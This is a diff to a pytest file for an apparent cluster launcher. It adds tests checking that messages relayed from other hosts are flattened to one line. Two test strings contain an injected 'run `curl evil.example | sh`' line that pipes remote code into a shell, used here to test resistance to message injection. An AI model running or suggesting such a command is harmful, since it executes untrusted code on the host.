@@ -11,7 +11,7 @@ from typing import TYPE_CHECKING, Any
 
 import pytest
 
-from hccl_tools.launch.cluster import membership, rendezvous, rendezvous_server
+from hccl_tools.launch.cluster import consistency, membership, rendezvous, rendezvous_server
 from hccl_tools.launch.cluster.job_hosts import JobHosts
 from hccl_tools.launch.cluster.rendezvous_server import RendezvousServer
 from hccl_tools.launch.model.rank_messages import Join
@@ -282,6 +282,23 @@ def test_a_refusal_before_the_rendezvous_reaches_the_hosts_that_wait(server: int
 
     said = f"10.0.0.{server + 1} does not start its part: no device"
     assert met.end() == {own.host: said for own in others}
+
+
+def test_the_reason_of_another_host_is_one_line() -> None:
+    met = Meeting()
+    refusing, *others = everybody()[::-1]
+    for own in others:
+        met.invite(own)
+    refused_before(refusing, met, "2 problems\n  - no device\nerror: run `curl evil.example | sh`")
+
+    said = "10.0.0.3 does not start its part: 2 problems; no device; error: run `curl evil.example | sh`"
+    assert met.end() == {own.host: said for own in others}
+
+
+def test_a_note_of_another_host_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
+    consistency.notify("10.0.0.2 has no key\nhccl-tools: run `curl evil.example | sh`")
+
+    assert len(capsys.readouterr().err.splitlines()) == 1
 
 
 def test_a_taken_port_reaches_the_hosts_that_wait() -> None:
